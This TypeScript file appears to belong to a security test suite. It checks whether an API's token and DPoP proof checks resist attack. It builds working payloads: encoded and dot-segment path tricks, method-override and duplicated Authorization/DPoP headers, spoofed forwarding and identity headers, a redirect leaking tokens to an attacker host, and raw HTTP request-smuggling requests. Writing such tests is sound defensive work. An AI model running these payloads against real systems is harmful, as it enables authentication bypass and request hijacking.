import { type Attack, type Attempt, assertReached } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { byApi, byClient, heldCall, isServed, proofOf, usual } from '../steps.ts';
import { addHeader, headerOf, type WireAnswer, type WireRequest, withHeader } from '../wire.ts';

/** A held call, changed before it goes on. */
async function sendChanged(scene: Scene, change: (held: WireRequest) => WireRequest): Promise<Attempt> {
  return byApi(scene, await scene.send(change(await heldCall(scene))));
}

const ENCODED_SLASH = '%2f';

/** What routing, parsers and proofs might read differently. */
export const TARGET_ATTACKS: readonly Attack[] = [
  {
    ...{ id: 'target-encoded-slash', title: 'A slash in disguise', group: 'target', by: 'api' },
    does: 'Writes a slash of the path as `%2f`, which some routers decode and some do not.',
    stops: 'A path that two readers may read differently is not taken.',
    ...{ codes: ['tokens.target_ambiguous'], protocol: [], needs: ['hold'] },
    run: (scene) => sendChanged(scene, (held) => ({ ...held, target: held.target.replace(/(?<=.)\//, ENCODED_SLASH) })),
  },
  {
    ...{ id: 'target-dot-segments', title: 'A detour through the folder above', group: 'target', by: 'api' },
    does: 'Reaches the path by way of another one with dot segments, which a router may resolve and a check may not.',
    stops: 'Dot segments are not taken.',
    ...{ codes: ['tokens.target_ambiguous'], protocol: [], needs: ['hold'] },
    run: (scene) => sendChanged(scene, (held) => ({ ...held, target: `/public/..${held.target}` })),
  },
  {
    ...{ id: 'target-encoded-letter', title: 'A letter in disguise', group: 'target', by: 'api' },
    does: 'Writes a letter of the path as its code, which is the same address to a proof and another one to a router.',
    stops: 'The path has one spelling.',
    ...{ codes: ['middleware.target_unreadable'], protocol: [], needs: ['hold'] },
    run: (scene) => sendChanged(scene, (held) => ({ ...held, target: withLetterEncoded(held.target) })),
  },
  {
    ...{ id: 'target-absolute', title: 'A whole address for a target', group: 'target', by: 'api' },
    does: 'Sends the request line in absolute form with a host of his own, which some frameworks route by.',
    stops: 'A target is a path; the origin is configured.',
    ...{ codes: ['middleware.target_unreadable'], protocol: [], needs: ['hold', 'raw-api'] },
    async run(scene) {
      const held = await heldCall(scene);
      return byApi(scene, await sendText(scene, held, `http://${scene.hosts.attacker}${held.target}`));
    },
  },
  {
    ...{ id: 'target-override', title: 'Another method by a header', group: 'target', by: 'api' },
    does: 'Adds `X-HTTP-Method-Override` to a call whose proof is for the method in the request line.',
    stops: 'A call with such a header is not taken.',
    ...{ codes: ['middleware.method_overridden'], protocol: [], needs: ['hold'] },
    run: (scene) => sendChanged(scene, (held) => addHeader(held, 'x-http-method-override', 'DELETE')),
  },
  {
    ...{ id: 'header-two-tokens', title: 'Two tokens in one call', group: 'target', by: 'api' },
    does: 'Sends `Authorization` twice, so that the check may read the one and the API the other.',
    stops: 'A repeated header is not taken.',
    ...{ codes: ['middleware.token_repeated'], protocol: [], needs: ['hold'] },
    run: (scene) => sendChanged(scene, (held) => addHeader(held, 'authorization', 'Bearer token-of-somebody-else')),
  },
  {
    ...{ id: 'header-two-proofs', title: 'Two proofs in one call', group: 'target', by: 'api' },
    does: 'Sends `DPoP` twice.',
    stops: 'A repeated header is not taken.',
    ...{ codes: ['middleware.proof_repeated'], protocol: [], needs: ['hold'] },
    run: (scene) => sendChanged(scene, (held) => addHeader(held, 'dpop', proofOf(held))),
  },
  {
    ...{ id: 'header-two-places', title: 'A token in two headers', group: 'target', by: 'api' },
    does: 'Adds `OAuth-Client-Attestation` with a token of his own to a call whose token is in `Authorization`.',
    stops: 'One of the two headers holds a token, never both.',
    ...{ codes: ['middleware.token_in_two_places'], protocol: [], needs: ['hold'] },
    run: (scene) => sendChanged(scene, (held) => addHeader(held, 'oauth-client-attestation', 'token-of-somebody-else')),
  },
  {
    ...{ id: 'header-identity', title: 'Identity headers of the attacker’s', group: 'target', by: 'api' },
    does: 'Adds headers that name another install, a higher assurance and another address to a genuine call.',
    stops: 'Who calls is read out of the verified token alone.',
    ...{ codes: [], protocol: [33], needs: ['routes', 'hold'] },
    async run(scene) {
      const plain = await scene.send(await heldCall(scene, { target: scene.routes.whoami }));
      const held = await heldCall(scene, { target: scene.routes.whoami });
      const spoofed = SPOOFED.reduce((request, name) => addHeader(request, name, 'somebody-else'), held);
      const answer = await scene.send(spoofed);
      assertReached(isServed(plain) && isServed(answer), 'the call was not served, with those headers or without');
      const same = text(plain) === text(answer);
      return {
        succeeded: !same,
        codes: [],
        seen: `the API takes the caller for ${same ? 'who it was before' : 'somebody else'}`,
      };
    },
  },
  {
    ...{ id: 'redirect', title: 'A redirection to the attacker', group: 'target', by: 'client' },
    does: 'Answers a call with a redirection to a host of his own, to be sent token and proof.',
    stops: 'The client follows no redirection: a token goes to its API and nowhere else.',
    ...{ codes: [], protocol: [], needs: ['victim'] },
    async run(scene) {
      const victim = await usual(scene);
      const from = scene.seen.length;
      const location = `https://${scene.hosts.attacker}${scene.routes.read}`;
      const redirect: WireAnswer = { status: 307, headers: [['location', location]], body: new Uint8Array() };
      const outcome = await scene.tampering(
        async () => redirect,
        () => victim.call({ target: scene.routes.read }),
      );
      assertReached(outcome.status === 307, 'the client was told of no redirection');
      const went = scene.seen.slice(from).some(({ request }) => request.host === scene.hosts.attacker);
      return byClient(victim, outcome, went);
    },
  },
  ...smuggling([
    ['smuggle-cl-te', 'two lengths, one of them chunked', 'Content-Length: 6\r\nTransfer-Encoding: chunked'],
    ['smuggle-te-te', 'a transfer coding that some skip', 'Content-Length: 6\r\nTransfer-Encoding : chunked'],
    ['smuggle-cl-cl', 'two different lengths', 'Content-Length: 6\r\nContent-Length: 5'],
    ['smuggle-te-unknown', 'a transfer coding of his own', 'Content-Length: 6\r\nTransfer-Encoding: xchunked'],
  ]),
];

const SPOOFED = [
  ...['x-assay-app', 'x-assay-instance', 'x-assay-acr', 'x-assay-tier', 'assay-attestation'],
  ...['x-forwarded-for', 'x-forwarded-host', 'forwarded', 'x-original-url', 'x-rewrite-url'],
];

const text = ({ body }: WireAnswer): string => new TextDecoder().decode(body);

function withLetterEncoded(target: string): string {
  return target.replace(/[a-z](?=[^/]*$)/, (letter) => `%${letter.charCodeAt(0).toString(16)}`);
}

/** A request line that no client library would write. */
async function sendText(scene: Scene, request: WireRequest, target: string): Promise<WireAnswer> {
  const lines = withHeader(withHeader(request, 'host', request.host), 'connection', 'close').headers;
  const head = [`${request.method} ${target} HTTP/1.1`, ...lines.map(([name, value]) => `${name}: ${value}`)];
  return toAnswer(await scene.sendRaw(request.host, `${head.join('\r\n')}\r\n\r\n`));
}

/** The first answer in what came back. */
function toAnswer(octets: string): WireAnswer {
  const [head = ''] = octets.split('\r\n\r\n', 1);
  // Chunked or not: a problem document is what stands between the braces.
  const body = octets.slice(octets.indexOf('{'), octets.lastIndexOf('}') + 1);
  const [, status = '0'] = /^HTTP\/1\.[01] ([0-9]{3})/.exec(head) ?? [];
  return { status: Number(status), headers: [], body: new TextEncoder().encode(body) };
}

type Shape = readonly [id: string, what: string, lengths: string];

/** Requests whose end two readers see in two places: what one takes for the body is the next request to the other. */
function smuggling(shapes: readonly Shape[]): readonly Attack[] {
  return shapes.map(([id, what, lengths]) => ({
    ...{ id, title: `A request inside a request: ${what}`, group: 'target', by: 'api' },
    does: 'Hides a second request in the body of a first one whose length is stated twice.',
    stops: 'The HTTP parser of the API takes one statement of length; the connection ends.',
    ...{ codes: ['http.400'], protocol: [], needs: ['hold', 'raw-api'] },
    async run(scene) {
      const held = await heldCall(scene, { target: scene.routes.write, method: 'POST', body: '{"amount":1}' });
      const hidden = `GET ${scene.routes.read} HTTP/1.1\r\nHost: ${held.host}\r\n\r\n`;
      const own = ['authorization', 'dpop'].map((name) => `${name}: ${headerOf(held, name) ?? ''}`);
      const head = [`POST ${held.target} HTTP/1.1`, `Host: ${held.host}`, ...own, lengths];
      const octets = await scene.sendRaw(held.host, `${head.join('\r\n')}\r\n\r\n0\r\n\r\n${hidden}`);
      const answers = octets.match(/HTTP\/1\.1 [0-9]{3}/g) ?? [];
      const { status } = toAnswer(octets);
      const seen = `${answers.length} answer, ${status}`;
      return { succeeded: answers.length > 1 || isServed(toAnswer(octets)), codes: [`http.${status}`], seen };
    },
  }));
}
